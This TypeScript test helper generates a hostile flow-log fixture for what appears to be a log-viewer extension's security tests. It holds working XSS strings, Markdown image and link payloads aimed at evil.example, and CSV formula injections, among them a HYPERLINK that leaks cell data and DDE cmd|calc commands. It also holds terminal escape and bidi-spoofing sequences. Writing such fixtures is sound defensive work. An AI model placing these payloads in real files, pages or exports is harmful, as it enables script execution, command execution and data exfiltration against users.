// The hostile fixture set: values an attacker can put in a flow log (log files are attacker-controlled), and the
// file that carries them, test/fixtures/workspace/hostile.flowlog (also opened by the real-editor suite). Most
// payloads sit in the free-text fields of a custom format (vpc-id, instance-id, interface-tag, asg-tag accept any
// text), so the records stay valid and the payloads reach every output; a few records are invalid on purpose, so
// that payloads also reach diagnostics and lint's messages (which quote the bad value) and the hover's reading.
//
// `node --import tsx test/support/hostile.ts --write` writes the fixture; a unit test checks it is up to date.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const HOSTILE = {
  // Markdown: a remote image loads when someone hovers; a link; a bare URL (GFM autolinks it); two backticks that
  // closed the old hover's code span early, then an image.
  markdownImage: '![p](https://evil.example/r.png)',
  markdownLink: '[click](https://evil.example/phish)',
  autolink: 'https://evil.example/x',
  backticks: 'x``![q](https://evil.example/q.png)``',
  // HTML and script in the webviews.
  html: '<img/src=x/onerror=alert(1)>',
  script: '</script><script>alert(2)</script>',
  svg: '"><svg/onload=alert(4)>',
  javascriptUrl: 'javascript:alert(3)',
  iframe: '<iframe/src=javascript:alert(5)>',
  template: "{{constructor.constructor('alert(6)')()}}",
  bold: '<b>eni-bold</b>',
  // Spreadsheet formulas (CSV export): a link that leaks the sheet, DDE command execution, arithmetic, @ functions,
  // and a formula behind a tab.
  formulaHyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  formulaCmd: "+cmd|'/Ccalc'!A0",
  formulaMinus: "-2+3+cmd|'/Ccalc'!A0",
  formulaAt: "@SUM(1+1)*cmd|'/Ccalc'!A0",
  formulaTab: '\t=1+2',
  // Terminal escapes: window title (OSC 0, ended by BEL), colours (CSI), a clipboard write (OSC 52), a C1 CSI.
  title: '\x1b]0;pwned\x07',
  colour: '\x1b[31mRED\x1b[0m',
  clipboard: '\x1b]52;c;ZWNobyBwd25lZA==\x07',
  c1: '\u009b31mC1',
  clearScreen: '\x1b[2J',
  // Bidi: a right-to-left override that shows `vpc-exe.png`, and an isolate.
  bidi: 'vpc-\u202egnp.exe',
  isolate: 'i-\u2067x\u2069',
  rtlAddress: '\u202e10.0.0.9',
  // Long: 20,000 characters in one field.
  long: 'L'.repeat(20_000),
} as const;

export const HOSTILE_HEADER = 'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id instance-id interface-tag asg-tag';

const H = HOSTILE;
const ok = (rest: string) => `2 123456789010 eni-abc12345 ${rest}`;

/** The records after the header, with what each one is for. */
export const HOSTILE_RECORDS: readonly { line: string; valid: boolean; why: string }[] = [
  { line: ok(`10.0.0.1 10.0.0.2 443 8080 6 10 840 1700000000 1700000060 ACCEPT OK ${H.html} ${H.script} ${H.markdownImage} ${H.markdownLink}`), valid: true, why: 'HTML and Markdown in text fields' },
  { line: ok(`${H.javascriptUrl} 10.0.0.2 443 22 6 1 40 1700000000 1700000060 REJECT OK ${H.svg} i-0abc ${H.backticks} ${H.autolink}`), valid: false, why: 'a bad srcaddr (quoted by diagnostics), backticks' },
  { line: `2 123456789010 ${H.bold} 10.0.0.3 ${H.iframe} 1024 3389 6 2 80 1700000060 1700000120 REJECT OK vpc-1 ${H.template} - -`, valid: false, why: 'HTML in typed fields' },
  { line: ok(`10.0.0.4 10.0.0.5 51000 443 6 4 400 1700000120 1700000180 ACCEPT OK ${H.formulaHyperlink} ${H.formulaCmd} ${H.formulaMinus} ${H.formulaAt}`), valid: true, why: 'spreadsheet formulas' },
  { line: ok(`10.0.0.6 10.0.0.7 51001 443 6 5 500 1700000180 1700000240 ACCEPT OK ${H.title} ${H.colour} ${H.clipboard} ${H.c1}`), valid: true, why: 'terminal escapes' },
  { line: ok(`10.0.0.8 10.0.0.9 51002 22 6 6 600 1700000240 1700000300 REJECT OK ${H.bidi} ${H.isolate} ${H.formulaTab} ${H.long}`), valid: true, why: 'bidi controls, a formula behind a tab, a long value' },
  { line: `${H.title} 123456789010 eni-abc12345 ${H.markdownImage} ${H.rtlAddress} 51003 ${H.clearScreen} 6 1 40 1700000300 1700000360 ${H.colour} OK - - - -`, valid: false, why: 'escapes and Markdown in typed fields: lint and diagnostics quote them' },
  { line: ok('- - - - - - - 1700000360 1700000420 - NODATA - - - -'), valid: true, why: 'NODATA: no addresses (not a talker in the summary)' },
  { line: 'V1 123456789010 eni-abc12345 - - - - - -1 -1 1700000420 1700000480 - SKIPDATA - - - -', valid: true, why: "Tencent's -1 counts: negative numbers stay numbers in CSV" },
  { line: ok(`10.0.0.10 10.0.0.11 51004 443 6 7 700 1700000480 1700000540 ACCEPT OK ${H.svg} ${H.template} ${H.backticks} ${H.autolink}`), valid: true, why: 'the payloads of the invalid records again, in a valid one (an engine skips malformed records)' },
];

/** The payloads that sit in valid records: the ones every output (queries, panels) must show. */
export const HOSTILE_IN_VALID_RECORDS = Object.entries(HOSTILE).filter(([, v]) => HOSTILE_RECORDS.some((r) => r.valid && r.line.includes(v)));

export const HOSTILE_TEXT = [HOSTILE_HEADER, ...HOSTILE_RECORDS.map((r) => r.line)].join('\n') + '\n';

export const HOSTILE_FIXTURE = join(__dirname, '../fixtures/workspace/hostile.flowlog');

if (process.argv.includes('--write')) {
  writeFileSync(HOSTILE_FIXTURE, HOSTILE_TEXT);
  console.log(`wrote ${HOSTILE_FIXTURE}`);
}
